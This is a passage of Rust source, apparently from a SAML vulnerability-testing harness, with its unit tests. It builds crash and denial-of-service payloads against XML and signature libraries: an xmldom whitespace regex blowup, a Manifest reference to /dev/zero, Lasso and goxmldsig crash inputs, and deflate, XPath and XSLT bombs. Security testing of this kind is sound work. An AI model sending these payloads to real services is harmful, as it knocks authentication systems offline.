        .find(|n| n.has_tag_name((ASSERTION_NS, "AttributeValue")))
        .ok_or_else(|| Skip::NotApplicable("the response has no claim to load".into()))?;
    let inside = bytes::after_start_tag(doc.src, value);
    let names: Vec<String> = (0..ATTRIBUTES)
        .map(|i| format!(" {}=\"\"", attribute_name(i)))
        .collect();
    let elements = ATTRIBUTES.div_ceil(SPREAD);
    let crowded = format!("<x{}/>{}", names.concat(), "<x/>".repeat(elements - 1));
    let spread: String = names
        .chunks(SPREAD)
        .map(|chunk| format!("<x{}/>", chunk.concat()))
        .collect();
    let shown = format!(
        "<x {}=\"\" {}=\"\" <!-- … {} more distinct attributes --> {}=\"\"/><x/><!-- … {} more <x/> -->",
        attribute_name(0),
        attribute_name(1),
        ATTRIBUTES - 3,
        attribute_name(ATTRIBUTES - 1),
        elements - 2
    );
    let with = |children: String| bytes::splice(doc.src, vec![bytes::insert(inside, children)]);
    Ok(Burden {
        encoded: encoded(with(crowded)),
        shown: with(shown),
        yardstick: encoded(with(spread)),
        yardstick_is: "the same response with those attributes spread 250 to an element",
        ratio: SAME_WORK_RATIO,
        floor: BURDEN_FLOOR,
        ignorable: false,
        by_redirect: false,
        crash: false,
        oversize: false,
        delay: false,
    })
}

/// The base64 the end-tag burden fills its message to: 96 KiB, under the 100 KiB an Express
/// app's form parser takes by default (body-parser `urlencoded`, as passport-saml's README
/// sets it up), so its body limit cannot be what refuses it.
pub const END_TAG_POSTED: usize = 96 << 10;

/// The fewest spaces the end-tag burden's run may have: @xmldom/xmldom 0.8.14 took 0.43 s over
/// 32,000 of them here, at the edge of what timing tells from an ordinary refusal.
pub const END_TAG_MIN_SPACES: usize = 32_000;

/// The IdP's own response with `<x></`, a run of spaces and `x>` right after the Response's
/// Issuer (where every response, encrypted assertion or not, has room): an end tag whose name
/// is whitespace and then `x`, the run as long as fills the message to [`END_TAG_POSTED`]
/// (about 66,000 spaces for an Entra response). @xmldom/xmldom 0.7.0–0.8.14 trimmed every end
/// tag's name with `replace(/[ \t\n\r]+$/g, '')`, whose backtracking search scans the run
/// again from each of its characters: quadratic before anything is verified
/// (GHSA-x4fp-j954-r2f4; 0.8.14 took 1.7 s over 64,000 spaces here, 7.0 s over 128,000,
/// 0.8.15 9 ms over 80,000). A conforming parser stops at the first space (no name starts with
/// one). The yardstick is as long with the spaces as the element's text (`<x>` + spaces +
/// `x</x>`): the same bytes, which every parser reads in linear time. An Assertion signature
/// (Entra's default) still verifies around either, so a session either opens proves nothing:
/// only time counts.
pub fn end_tag_whitespace(f: &Forge) -> Result<Burden, Skip> {
    let doc = Doc::parse(f.seed)?;
    let at = after_response_issuer(&doc);
    let room = (END_TAG_POSTED / 4 * 3).saturating_sub(doc.src.len() + "<x></x>".len());
    if room < END_TAG_MIN_SPACES {
        return Err(Skip::NotApplicable(format!(
            "the IdP's response ({} bytes) leaves room for only {room} spaces in {END_TAG_POSTED} bytes of base64, fewer than the {END_TAG_MIN_SPACES} whose cost timing tells",
            doc.src.len()
        )));
    }
    let spaces = " ".repeat(room);
    let with = |element: String| bytes::splice(doc.src, vec![bytes::insert(at, element)]);
    Ok(Burden {
        encoded: encoded(with(format!("<x></{spaces}x>"))),
        shown: with(format!("<x></<!-- {room} spaces -->x>")),
        yardstick: encoded(with(format!("<x>{}x</x>", &spaces[1..]))),
        yardstick_is: "the same response with those spaces as the element's text",
        ratio: SAME_WORK_RATIO,
        floor: QUICK_FLOOR,
        // Outside the signed Assertion: an SP whose parser recovers from the bad end tag
        // signs the user in rightly, at whatever cost; only time tells.
        ignorable: true,
        by_redirect: false,
        crash: false,
        oversize: false,
        delay: false,
    })
}

/// A claim of [`TRANSFORMS_PADDING`] characters at the end of `assertion`'s
/// AttributeStatement, written with the prefixes of its first claim: where, and what.
fn padding_claim(doc: &Doc, assertion: Node) -> Result<(usize, String), Skip> {
    let statement = assertion
        .descendants()
        .find(|n| n.has_tag_name((ASSERTION_NS, "AttributeStatement")))
        .ok_or_else(|| {
            Skip::NotApplicable("the signed element has no AttributeStatement to pad".into())
        })?;
    let attribute = bytes::child(statement, ASSERTION_NS, "Attribute")
        .ok_or_else(|| Skip::NotApplicable("the signed element has no claim to copy".into()))?;
    let value = bytes::child(attribute, ASSERTION_NS, "AttributeValue")
        .ok_or_else(|| Skip::NotApplicable("the claim has no AttributeValue".into()))?;
    let (a, v) = (
        bytes::qualified_name(doc.src, attribute),
        bytes::qualified_name(doc.src, value),
    );
    let claim = format!(
        "<{a} Name=\"urn:saml-harness:padding\"><{v}>{}</{v}></{a}>",
        "x".repeat(TRANSFORMS_PADDING)
    );
    Ok((bytes::before_end_tag(doc.src, statement), claim))
}

/// The local path the manifest-device burden names: a device whose read never ends.
const ENDLESS_DEVICE: &str = "/dev/zero";

/// The yardstick's path, as long: a device that reads as empty at once.
const EMPTY_DEVICE: &str = "/dev/null";
const _: () = assert!(ENDLESS_DEVICE.len() == EMPTY_DEVICE.len());

/// The IdP's own response with a `ds:Object/ds:Manifest` at the end of its outermost
/// signature (the Response's when it is signed, else the Assertion's), holding one Reference
/// to [`ENDLESS_DEVICE`]. SignedInfo does not cover the Object and no other signature covers
/// that one, so every signature still verifies; but libxmlsec1 opens and digests every Manifest Reference before
/// SignedInfo and the SignatureValue (xmldsig.c), unless the verifier ignores Manifests or
/// restricts Reference URIs, and a read of `/dev/zero` never ends: one POST holds a worker
/// for good. The yardstick names `/dev/null` (the same size; its empty read matches the
/// Reference's digest).
pub fn manifest_device(f: &Forge) -> Result<Burden, Skip> {
    let doc = Doc::parse(f.seed)?;
    let signature = std::iter::once(doc.root())
        .chain(doc.assertion().ok())
        .find_map(bytes::signature_of)
        .ok_or_else(|| {
            Skip::NotApplicable("neither the Response nor the Assertion carries a signature".into())
        })?;
    let digest = empty_digest(openssl::hash::MessageDigest::sha256())?;
    let ds = bytes::qualified_name(doc.src, signature)
        .strip_suffix("Signature")
        .unwrap_or_default();
    let with_device = |device: &str| {
        bytes::splice(
            doc.src,
            vec![bytes::insert(
                bytes::before_end_tag(doc.src, signature),
                format!(
                        "<{ds}Object><{ds}Manifest><{ds}Reference URI=\"{device}\"><{ds}DigestMethod Algorithm=\"http://www.w3.org/2001/04/xmlenc#sha256\"/><{ds}DigestValue>{digest}</{ds}DigestValue></{ds}Reference></{ds}Manifest></{ds}Object>"
                ),
            )],
        )
    };
    let burden = with_device(ENDLESS_DEVICE);
    Ok(Burden {
        encoded: encoded(&burden),
        shown: burden,
        yardstick: encoded(with_device(EMPTY_DEVICE)),
        yardstick_is: "the same response with the Manifest naming /dev/null",
        // The yardstick does the same work but for the read; the burden's read never ends,
        // so any ratio tells it.
        ratio: SAME_SIZE_RATIO,
        floor: BURDEN_FLOOR,
        ignorable: true,
        by_redirect: false,
        crash: false,
        oversize: false,
        delay: false,
    })
}

/// A burden read as a crash ([`Burden::crash`]): answered at all it passes; in every round
/// the connection closed without an answer, or a gateway's 502/504 where the yardstick got
/// none, is `vulnerable`. The yardstick is the same message but for the one part that
/// reaches the crash.
fn crash_probe(burden: String, yardstick: String, yardstick_is: &'static str) -> Burden {
    Burden {
        encoded: encoded(&burden),
        shown: burden,
        yardstick: encoded(yardstick),
        yardstick_is,
        ratio: SAME_SIZE_RATIO,
        floor: BURDEN_FLOOR,
        // Nothing here costs work: only whether the SP answers counts.
        ignorable: true,
        by_redirect: false,
        crash: true,
        oversize: false,
        delay: false,
    }
}

/// A SOAP 1.1 envelope whose Body holds no element, as `SAMLResponse`: Lasso (mod_auth_mellon,
/// LemonLDAP::NG; 2.6.1.3 to 2.8.2, unreported) unwraps SOAP before reading a message and
/// hands the Body's first element, none, to its node reader, which reads its name (a NULL
/// dereference, the worker dies).
/// Yardstick: the IdP's own response inside the same envelope's Body.
pub fn soap_empty_body(f: &Forge) -> Result<Burden, Skip> {
    let envelope = |body: &str| {
        format!("<s:Envelope xmlns:s=\"{SOAP11_ENVELOPE_NS}\"><s:Body>{body}</s:Body></s:Envelope>")
    };
    let seed = f.seed.trim_start_matches(|c| c != '<');
    let seed = seed.strip_prefix("<?xml").map_or(seed, |rest| {
        rest.find("?>").map_or(seed, |end| &rest[end + 2..])
    });
    Ok(crash_probe(
        envelope(""),
        envelope(seed),
        "the IdP's own response inside the same envelope",
    ))
}

/// The IdP's response with an attribute named `any_attributes`, then a namespaced one, on the
/// first claim's AttributeValue (CVE-2025-47151): Lasso before 2.9.0 matched the name to its
/// private hash table of foreign attributes, stored the string in its place, and inserted the
/// next attribute through it (a call through a pointer read from the string: the worker dies).
/// Yardstick: the same attribute named `any_attributez`.
pub fn any_attributes(f: &Forge) -> Result<Burden, Skip> {
    let doc = Doc::parse(f.seed)?;
    let value = doc
        .tree
        .descendants()
        .find(|n| n.has_tag_name((ASSERTION_NS, "AttributeValue")))
        .ok_or_else(|| {
            Skip::NotApplicable("the response carries no claim to put the attribute on".into())
        })?;
    let name_end = bytes::after_name(doc.src, value);
    let with = |name: &str| {
        let attributes = format!(
            " {name}=\"{}\" xmlns:lassox=\"urn:x\" lassox:y=\"1\"",
            "A".repeat(96)
        );
        bytes::splice(doc.src, vec![bytes::insert(name_end, attributes)])
    };
    Ok(crash_probe(
        with("any_attributes"),
        with("any_attributez"),
        "the same attribute named any_attributez",
    ))
}

/// The IdP's response with a CDATA section as the Response's first child (CVE-2025-46705):
/// Lasso before 2.9.0 met a node type its reader did not expect among a message's elements
/// and reached `g_assert_not_reached()` (abort: the worker dies). Yardstick: a comment there.
pub fn cdata_child(f: &Forge) -> Result<Burden, Skip> {
    let doc = Doc::parse(f.seed)?;
    let at = bytes::after_start_tag(doc.src, doc.tree.root_element());
    let with = |node: &str| bytes::splice(doc.src, vec![bytes::insert(at, node)]);
    Ok(crash_probe(
        with("<![CDATA[x]]>"),
        with("<!--x-->"),
        "the same response with a comment there",
    ))
}

/// The IdP's response with the Assertion's `ds:SignatureValue` element taken out, nothing
/// else changed (CVE-2020-7711): goxmldsig before 1.1.1 checked the digest, which still
/// matches, then read the missing value through a nil pointer (a Go panic: the connection
/// closes unanswered). Yardstick: the same response with one SignatureValue character changed.
pub fn signature_value_missing(f: &Forge) -> Result<Burden, Skip> {
    let doc = Doc::parse(f.seed)?;
    let p = crate::family::Parts::of(&doc)?;
    let value =
        bytes::child(p.need_assertion_sig()?, DSIG_NS, "SignatureValue").ok_or_else(|| {
            Skip::NotApplicable("the Assertion's Signature has no SignatureValue".into())
        })?;
    let text = bytes::after_start_tag(doc.src, value);
    let changed = match doc.src[text..bytes::before_end_tag(doc.src, value).max(text)]
        .chars()
        .next()
    {
        Some('A') => "B",
        Some(_) => "A",
        None => {
            return Err(Skip::NotApplicable(
                "the Assertion's SignatureValue is empty".into(),
            ))
        }
    };
    Ok(crash_probe(
        bytes::splice(doc.src, vec![(value.range(), String::new())]),
        bytes::splice(doc.src, vec![(text..text + 1, changed.to_owned())]),
        "the same response with one SignatureValue character changed",
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    const SEED: &str = r#"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://sts.windows.net/t/</saml:Issuer></samlp:Response>"#;

    fn inflated(bomb: &Burden) -> Vec<u8> {
        let deflated = base64::engine::general_purpose::STANDARD
            .decode(&bomb.encoded)
            .unwrap();
        saml_protocol::inflate_bounded(&deflated, (BOMB_PADDING + 4096) as u64).unwrap()
    }

    #[test]
    fn the_encrypted_key_cycle_names_its_own_key_and_the_yardstick_names_nothing() {
        let cert =
            openssl::x509::X509::from_pem(include_bytes!("../../../fixtures/keys/sp-1.cert.pem"))
                .unwrap();
        let seed = SEED.replace(
            "</samlp:Response>",
            r#"<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a"><saml:Subject><saml:NameID>b.simon</saml:NameID></saml:Subject></saml:Assertion></samlp:Response>"#,
        );
        let mut forge = Forge::bare(&seed);
        forge.sp.encryption_certificate = Some(&cert);
        let cycle = encrypted_key_cycle(&forge).unwrap();
        assert_eq!(cycle.encoded.len(), cycle.yardstick.len());
        let decode = |b64: &str| {
            String::from_utf8(
                base64::engine::general_purpose::STANDARD
                    .decode(b64)
                    .unwrap(),
            )
            .unwrap()
        };
        let (burden, yardstick) = (decode(&cycle.encoded), decode(&cycle.yardstick));
        for (xml, inner) in [(&burden, CYCLE_KEY_ID), (&yardstick, NO_KEY_ID)] {
            let doc = roxmltree::Document::parse(xml).unwrap();
            let data = doc
                .descendants()
                .find(|n| n.has_tag_name((XENC_NS, "EncryptedData")))
                .unwrap();
            let key = doc
                .descendants()
                .find(|n| n.has_tag_name((XENC_NS, "EncryptedKey")))
                .unwrap();
            // The key is EncryptedData's sibling, named by it, naming `inner` in turn.
            assert_eq!(key.parent(), data.parent());
            assert_eq!(key.attribute("Id"), Some(CYCLE_KEY_ID));
            let uris: Vec<_> = doc
                .descendants()
                .filter(|n| n.has_tag_name((DSIG_NS, "RetrievalMethod")))
                .map(|n| (n.attribute("Type").unwrap(), n.attribute("URI").unwrap()))
                .collect();
            let (first, second) = (format!("#{CYCLE_KEY_ID}"), format!("#{inner}"));
            assert_eq!(
                uris,
                [
                    (ENCRYPTED_KEY_TYPE, first.as_str()),
                    (ENCRYPTED_KEY_TYPE, second.as_str())
                ]
            );
            assert_eq!(
                doc.descendants().filter(|n| n.has_tag_name("a")).count(),
                CYCLE_BULK
            );
            // The key itself still opens the content for the SP.
            let key_pem = include_bytes!("../../../fixtures/keys/sp-1.key.pem");
            let sp_key = openssl::pkey::PKey::private_key_from_pem(key_pem).unwrap();
            let value = |n: roxmltree::Node| {
                let text = n
                    .descendants()
                    .find(|c| c.has_tag_name((XENC_NS, "CipherValue")))
                    .unwrap()
                    .text()
                    .unwrap();
                base64::engine::general_purpose::STANDARD
                    .decode(text)
                    .unwrap()
            };
            let content_key = saml_protocol::xmlenc::unwrap_key(
                &value(key),
                &sp_key,
                saml_protocol::xmlenc::RSA_OAEP,
            )
            .unwrap();
            let cipher = data
                .children()
                .find(|n| n.has_tag_name((XENC_NS, "CipherData")))
                .unwrap();
            let plain = saml_protocol::xmlenc::open(
                &value(cipher),
                &content_key,
                saml_protocol::xmlenc::AES256_CBC,
            )
            .unwrap();
            assert!(String::from_utf8(plain).unwrap().contains("b.simon"));
        }
    }

    #[test]
    fn the_deflate_bomb_inflates_to_line_feeds_then_the_response_and_fits_ruby_saml_s_limit() {
        let bomb = deflate_bomb(&Forge::bare(SEED)).unwrap();
        assert!(bomb.encoded.len() < 60_000, "{}", bomb.encoded.len());
        let inflated = inflated(&bomb);
        assert_eq!(inflated.len(), BOMB_PADDING + SEED.len());
        assert!(inflated[..BOMB_PADDING].iter().all(|b| *b == b'\n'));
        assert_eq!(&inflated[BOMB_PADDING..], SEED.as_bytes());
        assert!(
            bomb.shown.contains("<!-- 32 MiB of line feeds -->"),
            "{}",
            bomb.shown
        );
    }

    #[test]
    fn the_deflate_bomb_drops_the_xml_declaration_nothing_may_precede() {
        let declared = format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{SEED}");
        let bomb = deflate_bomb(&Forge::bare(&declared)).unwrap();
        assert_eq!(&inflated(&bomb)[BOMB_PADDING..], SEED.as_bytes());
    }

    #[test]
    fn the_bomb_s_yardstick_is_as_long_and_plain_text() {
        let bomb = deflate_bomb(&Forge::bare(SEED)).unwrap();
        assert_eq!(bomb.yardstick.len(), bomb.encoded.len());
        let bytes = base64::engine::general_purpose::STANDARD
            .decode(&bomb.yardstick)
            .unwrap();
        assert!(bytes.iter().all(u8::is_ascii_alphanumeric));
    }

    const SIGNED: &str = r##"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r"><Assertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a"><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><Reference URI="#_a"><Transforms><Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></Transforms></Reference></SignedInfo><SignatureValue>c2lnbmF0dXJl</SignatureValue></Signature><AttributeStatement><Attribute Name="n"><AttributeValue>v</AttributeValue></Attribute></AttributeStatement></Assertion></samlp:Response>"##;

    /// The XML a `SAMLResponse` value carries.
    fn decoded(encoded: &str) -> String {
        let bytes = base64::engine::general_purpose::STANDARD
            .decode(encoded)
            .unwrap();
        String::from_utf8(bytes).unwrap()
    }

    /// The Transform elements of `xml`'s signature, and the padding claim's value length.
    fn shape(encoded: &str) -> (usize, usize) {
        let xml = decoded(encoded);
        let doc = roxmltree::Document::parse(&xml).unwrap();
        let transforms = doc
            .descendants()
            .filter(|n| n.has_tag_name((DSIG_NS, "Transform")))
            .count();
        let padding = doc
            .descendants()
            .find(|n| n.attribute("Name") == Some("urn:saml-harness:padding"))
            .and_then(|a| a.first_element_child())
            .and_then(|v| v.text())
            .map_or(0, str::len);
        (transforms, padding)
    }

    #[test]
    fn many_transforms_pads_the_signed_claims_and_its_yardstick_holds_as_many_elements_in_signed_info(
    ) {
        let burden = many_transforms(&Forge::bare(SIGNED)).unwrap();
        assert_eq!(shape(&burden.encoded), (TRANSFORMS, TRANSFORMS_PADDING));
        assert_eq!(shape(&burden.yardstick), (2, TRANSFORMS_PADDING));
        assert_eq!(burden.yardstick.len(), burden.encoded.len());
        let elements = |encoded: &str| decoded(encoded).matches(EXC_C14N).count();
        assert_eq!(elements(&burden.yardstick), elements(&burden.encoded));
        // The yardstick's elements sit in the enveloped-signature Transform: SignedInfo holds
        // as many elements in both (the yardstick's `<w>` is one more).
        let in_signed_info = |encoded: &str, enveloped_only: bool| {
            let xml = decoded(encoded);
            let doc = roxmltree::Document::parse(&xml).unwrap();
            let info = doc
                .descendants()
                .find(|n| n.has_tag_name((DSIG_NS, "SignedInfo")))
                .unwrap();
            let enveloped = |n: &roxmltree::Node| {
                n.ancestors()
                    .skip(1)
                    .any(|a| a.attribute("Algorithm") == Some(ENVELOPED))
            };
            info.descendants()
                .filter(|n| n.is_element() && (!enveloped_only || enveloped(n)))
                .count()
        };
        assert_eq!(in_signed_info(&burden.encoded, true), 0);
        assert_eq!(in_signed_info(&burden.yardstick, true), TRANSFORMS - 2 + 1);
        assert_eq!(
            in_signed_info(&burden.yardstick, false),
            in_signed_info(&burden.encoded, false) + 1
        );
        assert!(
            burden.encoded.len() < 512 * 1024 - 1024,
            "{}",
            burden.encoded.len()
        );
        assert!(burden.shown.contains("<!-- 2498 more: <Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/> -->"), "{}", burden.shown);
        assert!(burden.shown.len() < 2048, "{}", burden.shown);
    }

    /// How many foreign `<x>` elements `encoded` holds inside SignedInfo and inside ds:Object,
    /// and its SignatureValues.
    fn placed(encoded: &str) -> (usize, usize, Vec<String>) {
        let xml = decoded(encoded);
        let doc = roxmltree::Document::parse(&xml).unwrap();
        let under = |name: &str| {
            doc.descendants()
                .filter(|n| n.has_tag_name((FOREIGN_NS, "x")))
                .filter(|n| n.ancestors().any(|a| a.has_tag_name((DSIG_NS, name))))
                .count()
        };
        let values = doc
            .descendants()
            .filter(|n| n.has_tag_name((DSIG_NS, "SignatureValue")))
            .map(|n| n.text().unwrap_or_default().to_owned())
            .collect();
        (under("SignedInfo"), under("Object"), values)
    }

    #[test]
    fn a_large_signed_info_holds_the_elements_its_yardstick_holds_outside_with_a_broken_value() {
        let burden = large_signed_info(&Forge::bare(SIGNED)).unwrap();
        assert_eq!(burden.yardstick.len(), burden.encoded.len());
        let original = vec!["c2lnbmF0dXJl".to_owned()];
        assert_eq!(placed(&burden.encoded), (SIGNED_INFO_ELEMENTS, 0, original));
        let broken = vec!["c2lnbmA0dXJl".to_owned()];
        assert_eq!(placed(&burden.yardstick), (0, SIGNED_INFO_ELEMENTS, broken));
        assert!(burden.encoded.len() < 100_000, "{}", burden.encoded.len());
        assert!(
            burden
                .shown
                .contains("<!-- … 99 more <x/> --></y><!-- … 119 more <y> of 100 <x/> --></w>"),
            "{}",
            burden.shown
        );
        assert!(burden.shown.len() < 2048, "{}", burden.shown);
    }

    #[test]
    fn a_ds_prefixed_signature_gets_the_same_shapes() {
        let prefixed = SIGNED
            .replace(
                "<Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\">",
                "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">",
            )
            .replace("</Signature>", "</ds:Signature>");
        let prefixed = [
            "SignedInfo",
            "Reference",
            "Transforms",
            "Transform",
            "SignatureValue",
        ]
        .iter()
        .fold(prefixed, |xml, name| {
            xml.replace(&format!("<{name}"), &format!("<ds:{name}"))
                .replace(&format!("</{name}>"), &format!("</ds:{name}>"))
        });
        assert!(prefixed.contains("<ds:Transform Algorithm"), "{prefixed}");
        let transforms = many_transforms(&Forge::bare(&prefixed)).unwrap();
        assert_eq!(transforms.yardstick.len(), transforms.encoded.len());
        assert_eq!(shape(&transforms.encoded).0, TRANSFORMS);
        assert_eq!(shape(&transforms.yardstick).0, 2);
        let large = large_signed_info(&Forge::bare(&prefixed)).unwrap();
        assert_eq!(large.yardstick.len(), large.encoded.len());
        let broken = vec!["c2lnbmA0dXJl".to_owned()];
        assert_eq!(placed(&large.yardstick), (0, SIGNED_INFO_ELEMENTS, broken));
        assert_eq!(placed(&large.encoded).0, SIGNED_INFO_ELEMENTS);
    }

    #[test]
    fn the_broken_signature_value_changes_one_character_outside_character_references() {
        let value = "QUJD&#13;\nREVG&#13;\nR0hJ&#13;\nSktM";
        let xml = SIGNED.replace("c2lnbmF0dXJl", value);
        let doc = roxmltree::Document::parse(&xml).unwrap();
        let signature = doc
            .descendants()
            .find(|n| n.has_tag_name((DSIG_NS, "Signature")))
            .unwrap();
        let edit = broken_signature_value(&xml, signature).unwrap();
        let broken = bytes::splice(&xml, vec![edit]);
        roxmltree::Document::parse(&broken).unwrap();
        assert_eq!(broken.len(), xml.len());
        assert_eq!(broken.matches("&#13;").count(), 3);
        assert_ne!(broken, xml);
    }

    #[test]
    fn the_xpath_bomb_filters_after_the_enveloped_transform_and_its_yardstick_is_cheap() {
        let bomb = xpath_bomb(&Forge::bare(SIGNED)).unwrap();
        assert_eq!(bomb.yardstick.len(), bomb.encoded.len());
        let filter = |encoded: &str| {
            let xml = decoded(encoded);
            let doc = roxmltree::Document::parse(&xml).unwrap();
            let transforms: Vec<_> = doc
                .descendants()
                .filter(|n| n.has_tag_name((DSIG_NS, "Transform")))
                .collect();
            let algorithms: Vec<_> = transforms
                .iter()
                .map(|n| n.attribute("Algorithm").unwrap_or_default())
                .collect();
            assert_eq!(algorithms, [ENVELOPED, XPATH_TRANSFORM, EXC_C14N]);
            let bulk = doc.descendants().filter(|n| n.has_tag_name("a")).count();
            assert_eq!(bulk, XPATH_BULK);
            transforms[1]
                .children()
                .find(|n| n.is_element())
                .and_then(|x| x.text())
                .unwrap()
                .trim()
                .to_owned()
        };
        assert_eq!(filter(&bomb.encoded), "count(//*[count(//*) > 0]) > 0");
        assert_eq!(filter(&bomb.yardstick), "1=1");
    }

    #[test]
    fn the_xslt_bomb_recurses_its_depth_and_its_yardstick_zero_levels() {
        let bomb = xslt_bomb(&Forge::bare(SIGNED)).unwrap();
        assert_eq!(bomb.yardstick.len(), bomb.encoded.len());
        let select = |encoded: &str| {
            let xml = decoded(encoded);
            let doc = roxmltree::Document::parse(&xml).unwrap();
            let transforms = doc
                .descendants()
                .filter(|n| n.has_tag_name((DSIG_NS, "Transform")))
                .map(|n| n.attribute("Algorithm").unwrap_or_default().to_owned())
                .collect::<Vec<_>>();
            assert_eq!(transforms.last().map(String::as_str), Some(XSLT_TRANSFORM));
            doc.descendants()
                .find(|n| n.tag_name().name() == "with-param")
                .and_then(|n| n.attribute("select"))
                .unwrap()
                .to_owned()
        };
        assert_eq!(select(&bomb.encoded), XSLT_DEPTH.to_string());
        assert_eq!(select(&bomb.yardstick).trim_end(), "0");
    }

    #[test]
    fn many_attributes_are_distinct_and_the_yardstick_spreads_them_over_the_same_elements() {
        let burden = many_attributes(&Forge::bare(SIGNED)).unwrap();
        assert_eq!(burden.yardstick.len(), burden.encoded.len());
        assert!(burden.encoded.len() < 500_000, "{}", burden.encoded.len());
        let attributes = |encoded: &str| {
            let xml = decoded(encoded);
            let doc = roxmltree::Document::parse(&xml).unwrap();
            let value = doc
                .descendants()
                .find(|n| n.tag_name().name() == "AttributeValue")
                .unwrap();
            value
                .children()
                .filter(|n| n.tag_name().name() == "x")
                .map(|n| n.attributes().count())
                .collect::<Vec<_>>()
        };
        // roxmltree refuses duplicates: every name is distinct.
        let elements = ATTRIBUTES / SPREAD;
        let mut crowded = vec![0; elements];
        crowded[0] = ATTRIBUTES;
        assert_eq!(attributes(&burden.encoded), crowded);
        assert_eq!(attributes(&burden.yardstick), vec![SPREAD; elements]);
        assert!(burden.yardstick_is.contains(&SPREAD.to_string()));
        assert!(burden.shown.len() < 2048, "{}", burden.shown);
    }

    #[test]
    fn the_end_tag_burden_is_a_run_of_spaces_before_a_name_and_its_yardstick_as_long() {
        let burden = end_tag_whitespace(&Forge::bare(SIGNED)).unwrap();
        assert_eq!(burden.yardstick.len(), burden.encoded.len());
        assert!(
            burden.encoded.len() <= END_TAG_POSTED,
            "{}",
            burden.encoded.len()
        );
        assert!(
            burden.encoded.len() > END_TAG_POSTED - 8,
            "{}",
            burden.encoded.len()
        );
        let xml = decoded(&burden.encoded);
        let spaces = xml.len() - SIGNED.len() - "<x></x>".len();
        let run = format!("<x></{}x>", " ".repeat(spaces));
        // Right after the Response's Issuer, or here (it has none) its start tag.
        assert_eq!(xml.matches(&format!("ID=\"_r\">{run}")).count(), 1);
        // No conforming parser takes it; the yardstick is well-formed.
        assert!(roxmltree::Document::parse(&xml).is_err());
        let yardstick = decoded(&burden.yardstick);
        let doc = roxmltree::Document::parse(&yardstick).unwrap();
        let x = doc.descendants().find(|n| n.has_tag_name("x")).unwrap();
        assert_eq!(x.text().map(str::len), Some(spaces));
        assert!(burden.shown.len() < 4096, "{}", burden.shown.len());
    }

    #[test]
    fn a_response_signed_twice_gets_its_burden_in_both_signatures() {
        let response_signature = r##"<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><Reference URI="#_r"><Transforms><Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></Transforms></Reference></SignedInfo></Signature>"##;
        let both = SIGNED.replacen("ID=\"_r\">", &format!("ID=\"_r\">{response_signature}"), 1);
        let burden = many_transforms(&Forge::bare(&both)).unwrap();
        assert_eq!(shape(&burden.encoded), (TRANSFORMS, TRANSFORMS_PADDING));
        assert_eq!(burden.yardstick.len(), burden.encoded.len());
        let large = large_signed_info(&Forge::bare(&both)).unwrap();
        assert_eq!(large.yardstick.len(), large.encoded.len());
        assert_eq!(placed(&large.encoded).0, 2 * SIGNED_INFO_ELEMENTS);
        assert_eq!(placed(&large.yardstick).1, 2 * SIGNED_INFO_ELEMENTS);
        let bomb = xslt_bomb(&Forge::bare(&both)).unwrap();
        let xml = decoded(&bomb.encoded);
        assert_eq!(xml.matches(XSLT_TRANSFORM).count(), 2);
    }

    #[test]
    fn an_unsigned_seed_gets_no_transforms() {
        assert!(matches!(
            many_transforms(&Forge::bare(SEED)),
            Err(Skip::NotApplicable(_))
        ));
        assert!(matches!(
            xslt_bomb(&Forge::bare(SEED)),
            Err(Skip::NotApplicable(_))
        ));
    }

    #[test]
    fn the_manifest_names_the_endless_device_and_its_yardstick_the_empty_one() {
        let burden = manifest_device(&Forge::bare(SIGNED)).unwrap();
        assert_eq!(burden.yardstick.len(), burden.encoded.len());
        assert!(burden.ignorable);
        for (encoded, device) in [
            (&burden.encoded, ENDLESS_DEVICE),
            (&burden.yardstick, EMPTY_DEVICE),
        ] {
            let xml = decoded(encoded);
            let doc = roxmltree::Document::parse(&xml).unwrap();
            let references: Vec<_> = doc
                .descendants()
                .filter(|n| n.has_tag_name((DSIG_NS, "Manifest")))
                .flat_map(|m| {
                    m.children()
                        .filter(|r| r.has_tag_name((DSIG_NS, "Reference")))
                })
                .collect();
            assert_eq!(references.len(), 1, "{xml}");
            assert_eq!(references[0].attribute("URI"), Some(device));
            // The Object ends the signature: SignedInfo, and so the signature, are untouched.
            let object = references[0].parent().unwrap().parent().unwrap();
            assert!(object.has_tag_name((DSIG_NS, "Object")));
            assert!(object
                .parent()
                .unwrap()
                .has_tag_name((DSIG_NS, "Signature")));
            assert!(object.next_sibling_element().is_none());
        }
        assert!(matches!(
            manifest_device(&Forge::bare(SEED)),
            Err(Skip::NotApplicable(_))
        ));
    }

    #[test]
    fn a_response_signed_twice_gets_the_manifest_in_the_responses_signature_only() {
        // The Response's signature covers the Assertion's: a Manifest there would break it.
        let response_signature = r##"<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><Reference URI="#_r"/></SignedInfo></Signature>"##;
        let both = SIGNED.replacen("ID=\"_r\">", &format!("ID=\"_r\">{response_signature}"), 1);
        let xml = decoded(&manifest_device(&Forge::bare(&both)).unwrap().encoded);
        let doc = roxmltree::Document::parse(&xml).unwrap();
        let manifests: Vec<_> = doc
            .descendants()
            .filter(|n| n.has_tag_name((DSIG_NS, "Manifest")))
            .collect();
        assert_eq!(manifests.len(), 1, "{xml}");
        // ancestors() starts at the Manifest: Object, Signature, then the signed element.
        let signed = manifests[0].ancestors().nth(3).unwrap();
        assert_eq!(signed, doc.root_element());
    }

    #[test]
    fn a_seed_that_is_no_xml_gets_no_bomb() {
        assert!(deflate_bomb(&Forge::bare("not xml")).is_err());
    }
